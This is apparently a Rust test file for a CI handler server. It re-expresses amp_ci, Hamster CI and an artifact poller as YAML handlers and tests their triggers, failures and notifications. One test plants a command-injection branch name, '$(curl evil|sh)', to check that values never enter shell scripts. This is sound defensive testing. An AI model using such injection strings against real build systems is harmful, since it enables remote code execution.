//! What amp_ci, Hamster CI and the Actions artifact poller did, as handlers; and what they got wrong, right.

use soopervisor::server::event::{Artifact, Comment, Event, Kind, Pull, Status};
use soopervisor::server::handler::State;

use crate::kit::{event, file, play};

/// amp_ci: scripts by repository and branch, dependents of one repository, mail on failure.
const AMP: &str = r#"
repos:
  - {url: "https://github.com/AMP/amp_bootstrap.git", dependents: all, submodules: true}
  - {url: "https://github.com/AMP/amp_ui.git", branches: [main, "feature/*"], submodules: true}
  - {url: "https://github.com/AMP/amp_rest.git", branches: [main]}
mail: {host: localhost, from: amp@example.edu, tls: none}
handlers:
  - name: build
    on: [push, branch_created, manual]
    do:
      - shell:
          scripts:
            amp_bootstrap: {"*": [./check.sh]}
            "*": {main: [./build_packages, ./distribute_to_liger], "feature/*": [./build_packages]}
          env: {AMP_COMMIT: "{{ event.commit }}", AMP_REPO: "{{ event.repo_name }}"}
          submodules: true
          timeout: 1h
    on_failure:
      - notify:
          mail: "{{ event.payload.pusher.email }}"
          subject: "{{ event.repo_name }} {{ event.branch }} failed"
          text: "{{ shell.output }}"
  - name: bootstrap rebuilds all
    on: push
    repos: AMP/amp_bootstrap
    do: {trigger: {repos: dependents}}
"#;

fn amp(kind: Kind, repo: &str, branch: &str) -> Event {
    let mut event = event(kind, repo, &format!("refs/heads/{branch}"));
    event.payload = serde_json::json!({"pusher": {"name": "pat", "email": "pat@example.edu"}});
    event
}

#[tokio::test]
async fn amp_scripts_are_looked_up_by_repository_then_branch_then_star() {
    let file = file(AMP);
    let (_, done) = play(&file, &amp(Kind::Push, "AMP/amp_ui", "main"), None).await;
    assert!(done[0].starts_with(r#"shell ["./build_packages", "./distribute_to_liger"]"#), "{done:?}");
    let (_, done) = play(&file, &amp(Kind::Push, "AMP/amp_ui", "feature/x"), None).await;
    assert!(done[0].starts_with(r#"shell ["./build_packages"]"#), "a slash in a branch is part of its name: {done:?}");
    let (_, done) = play(&file, &amp(Kind::Push, "AMP/amp_bootstrap", "any"), None).await;
    assert!(done[0].starts_with(r#"shell ["./check.sh"]"#), "{done:?}");
}

#[tokio::test]
async fn amp_a_missing_script_is_a_failure_that_somebody_hears_of() {
    let (reports, done) = play(&file(AMP), &amp(Kind::Push, "AMP/amp_ui", "nobodys"), None).await;
    assert_eq!(reports[0].state, State::Failed);
    assert!(reports[0].error.as_ref().unwrap().contains("no scripts of `AMP/amp_ui` for the branch `nobodys`"));
    assert_eq!(done, [r#"mail ["pat@example.edu"]: amp_ui nobodys failed"#]);
}

#[tokio::test]
async fn amp_the_pushed_commit_is_built_and_no_value_is_part_of_a_script() {
    let mut push = amp(Kind::Push, "AMP/amp_ui", "main");
    push.reference = Some("refs/heads/feature/$(curl evil|sh)".to_owned());
    let (_, done) = play(&file(AMP), &push, None).await;
    let sha = "b".repeat(40);
    assert!(done[0].contains(&format!(r#""AMP_COMMIT": "{sha}""#)) && done[0].ends_with("commit"), "{done:?}");
    assert!(!done[0].contains("curl"), "{done:?}");
    // amp_ci formatted values into shell text; that is refused when the file is read.
    let text = "handlers: [{name: x, on: push, do: [{shell: {script: 'git checkout {{ event.branch }}'}}]}]";
    let (none, found) = soopervisor::server::file::parse("x", text.as_bytes());
    assert!(none.is_none() && found[0].code == "server/script", "{found:?}");
}

#[tokio::test]
async fn amp_a_failure_is_mailed_to_who_pushed_and_a_success_is_not() {
    let (_, done) = play(&file(AMP), &amp(Kind::Push, "AMP/amp_ui", "main"), Some("./build_packages")).await;
    assert_eq!(done[1], r#"mail ["pat@example.edu"]: amp_ui main failed"#);
    let (_, done) = play(&file(AMP), &amp(Kind::Push, "AMP/amp_ui", "main"), None).await;
    assert_eq!(done.len(), 1);
}

#[tokio::test]
async fn amp_a_push_to_bootstrap_rebuilds_every_repository() {
    let file = file(AMP);
    let (_, done) = play(&file, &amp(Kind::Push, "AMP/amp_bootstrap", "main"), None).await;
    assert_eq!(done[1], r#"trigger Some(Dependents("dependents")) from AMP/amp_bootstrap"#);
    let names: Vec<&str> = file.dependents("AMP/amp_bootstrap").iter().map(|repo| repo.name.as_str()).collect();
    assert_eq!(names, ["AMP/amp_ui", "AMP/amp_rest"]);
    assert!(file.dependents("AMP/amp_ui").is_empty());
}

#[tokio::test]
async fn amp_a_rebuild_by_hand_is_an_event_like_any_other_and_other_events_are_ignored() {
    let file = file(AMP);
    let (_, done) = play(&file, &amp(Kind::Manual, "AMP/amp_rest", "main"), None).await;
    assert!(done[0].starts_with("shell"), "{done:?}");
    // amp_ci answered these with 500, and a deleted branch stopped its builder.
    for kind in [Kind::PullRequest, Kind::BranchDeleted, Kind::Comment] {
        assert_eq!(play(&file, &amp(kind, "AMP/amp_rest", "main"), None).await.1, [""; 0]);
    }
}

/// Hamster CI: criteria, chains with named results, callbacks, comments, labels, commit statuses.
const HAMSTER: &str = r##"
handlers:
  - name: build
    on: pull_request
    when: >-
      event.pull.action in ["opened", "synchronize", "reopened"]
      and event.pull.base_branch == "master"
      and event.pull.title.matches("(?i)^[a-z]+-\\d+")
      and not event.pull.draft
    do:
      - status: {state: pending, context: hamster}
      - shell: {script: "tox", workspace: merge}
        name: tests
        before: [{comment: {body: "Testing {{ event.pull.head }}"}}]
        on_failure: [{comment: {body: "{{ tests.code }}: {{ tests.lines|last }}"}}]
      - comment: {body: "{{ tests.status }}"}
      - label: {add: [tested]}
    on_success: [{status: {state: success, context: hamster}}]
    on_failure: [{status: {state: failure, context: hamster}}]
    always: [{log: {text: "#{{ event.pull.number }} is done"}}]
  - name: answer
    on: comment
    when: event.comment.body.contains("retest") and event.comment.permission in ["admin", "write"]
    do: {shell: {script: tox, workspace: merge}}
  - name: jenkins
    on: commit_status
    when: event.status.state == "failure" and event.status.context.startswith("jenkins/")
    do: {comment: {body: "{{ event.status.context }}: {{ event.status.target_url }}", pull: "{{ event.pull.number }}"}}
"##;

fn pull(action: &str, title: &str) -> Event {
    let mut event = event(Kind::PullRequest, "acme/churn", "refs/pull/7/head");
    let (action, title) = (action.to_owned(), title.to_owned());
    let base_branch = Some("master".to_owned());
    let head = Some("c".repeat(40).parse().unwrap());
    event.pull = Some(Pull { number: 7, action, title, base_branch, head, ..Pull::default() });
    event
}

#[tokio::test]
async fn hamster_a_push_to_a_pull_request_fires_and_its_criteria_are_anded() {
    let file = file(HAMSTER);
    let count = async |event: &Event| play(&file, event, None).await.1.len();
    // `synchronized` was accepted there, and GitHub sends `synchronize`: no push ever fired.
    assert!(count(&pull("synchronize", "ABC-1 better")).await > 0);
    assert_eq!(count(&pull("synchronized", "ABC-1 better")).await, 0);
    assert_eq!(count(&pull("closed", "ABC-1 better")).await, 0);
    assert_eq!(count(&pull("opened", "no ticket")).await, 0);
    let mut draft = pull("opened", "ABC-1");
    draft.pull.as_mut().unwrap().draft = true;
    assert_eq!(count(&draft).await, 0);
}

#[tokio::test]
async fn hamster_a_chain_with_results_callbacks_and_statuses() {
    let (reports, done) = play(&file(HAMSTER), &pull("opened", "ABC-1"), None).await;
    assert_eq!(reports[0].state, State::Succeeded);
    assert_eq!(
        done,
        [
            r#"status pending Some("hamster")"#,
            &format!("comment Testing {}", "c".repeat(40)),
            r#"shell ["tox"] {} merge"#,
            "comment succeeded",
            r#"label ["tested"]"#,
            r#"status success Some("hamster")"#,
            "log #7 is done",
        ]
    );
}

#[tokio::test]
async fn hamster_a_command_that_fails_is_no_success_and_the_chain_stops() {
    // There, the action counted as done and the chain went on.
    let (reports, done) = play(&file(HAMSTER), &pull("opened", "ABC-1"), Some("tox")).await;
    assert_eq!(reports[0].state, State::Failed);
    assert_eq!(done[3..], ["comment 1: stopped", r#"status failure Some("hamster")"#, "log #7 is done"]);
}

#[tokio::test]
async fn hamster_its_own_comments_fire_nothing_and_strangers_neither() {
    let file = file(HAMSTER);
    let comment = |body: &str, permission: Option<&str>| {
        let mut event = event(Kind::Comment, "acme/churn", "refs/pull/7/head");
        event.pull = Some(Pull { number: 7, ..Pull::default() });
        let permission = permission.map(str::to_owned);
        event.comment = Some(Comment { id: 1, body: body.to_owned(), permission, ..Comment::default() });
        event
    };
    assert_eq!(play(&file, &comment("please retest", Some("write")), None).await.1.len(), 1);
    assert_eq!(play(&file, &comment("please retest", Some("read")), None).await.1.len(), 0);
    assert_eq!(play(&file, &comment("please retest", None), None).await.1.len(), 0);
    let own = format!("{} build -->\nretest", soopervisor::server::handler::OWN_MARK);
    assert_eq!(play(&file, &comment(&own, Some("write")), None).await.1.len(), 0);
}

#[tokio::test]
async fn hamster_a_status_of_another_system_fires() {
    let mut status = event(Kind::CommitStatus, "acme/churn", "refs/heads/x");
    status.pull = Some(Pull { number: 7, ..Pull::default() });
    let target_url = Some("https://jenkins/job/1".to_owned());
    let words = ("jenkins/unit".to_owned(), "failure".to_owned());
    status.status = Some(Status { context: words.0, state: words.1, target_url, ..Status::default() });
    let (_, done) = play(&file(HAMSTER), &status, None).await;
    assert_eq!(done, ["comment jenkins/unit: https://jenkins/job/1"]);
}

#[test]
fn hamster_a_misspelled_criterion_or_template_is_an_error_and_not_true() {
    for (wrong, code) in [
        ("when: event.pull.titel == 'x'\n    do: {log: {text: x}}", "server/criterion"),
        ("when: sucess\n    do: {log: {text: x}}", "server/criterion"),
        ("do: [{shell: {script: a}, name: b}, {comment: {body: '{{ bb.output }}'}}]", "server/template"),
        ("do: [{shell: {script: a}, name: b}, {shell: {script: a}, name: b}]", "server/name"),
    ] {
        let text = format!("handlers:\n  - name: x\n    on: pull_request\n    {wrong}\n");
        let (none, found) = soopervisor::server::file::parse("x", text.as_bytes());
        assert!(none.is_none() && found[0].code == code, "{wrong}: {found:?}");
    }
}

/// The artifact poller: new commits of a source start a build elsewhere; its artifacts are passed on.
const POLLER: &str = r#"
handlers:
  - name: build the new commit
    on: push
    repos: apache/qpid-proton
    when: event.branch == "main"
    do:
      - dispatch: {repo: me/rh-qpid-proton-dist, event_type: trigger-action, inputs: {commit: "{{ event.commit }}"}, cooldown: 2h}
      - log: {text: "{{ dispatch.triggered }} {{ dispatch.reason }}"}
  - name: pass artifacts on
    on: artifact
    when: event.artifact.name.glob("proton-*") and event.artifact.size > 0
    do:
      - http: {method: PUT, url: "https://bodega.example/{{ event.repo_name }}/{{ event.artifact.workflow_run }}-{{ event.artifact.attempt }}"}
"#;

#[tokio::test]
async fn poller_a_commit_of_the_watched_branch_starts_a_build_that_names_it() {
    let file = file(POLLER);
    let push = event(Kind::Push, "apache/qpid-proton", "refs/heads/main");
    let (_, done) = play(&file, &push, None).await;
    let sha = "b".repeat(40);
    assert_eq!(done[0], format!(r#"dispatch me/rh-qpid-proton-dist Some("trigger-action") {{"commit": "{sha}"}}"#));
    assert_eq!(done[1], "log true ");
    // Its `source_branch` was read and never used.
    assert!(play(&file, &event(Kind::Push, "apache/qpid-proton", "refs/heads/dev"), None).await.1.is_empty());
}

#[tokio::test]
async fn poller_artifacts_are_chosen_by_name_and_named_by_run_and_attempt() {
    let mut artifact = event(Kind::Artifact, "me/rh-qpid-proton-dist", "refs/heads/main");
    let name = "proton-rpm".to_owned();
    artifact.artifact = Some(Artifact { id: 1, name, workflow_run: 9, attempt: 2, size: 10, digest: None });
    let file = file(POLLER);
    let (_, done) = play(&file, &artifact, None).await;
    assert_eq!(done, ["http PUT https://bodega.example/rh-qpid-proton-dist/9-2"]);
    artifact.artifact.as_mut().unwrap().name = "commit_hash".to_owned();
    assert!(play(&file, &artifact, None).await.1.is_empty());
}
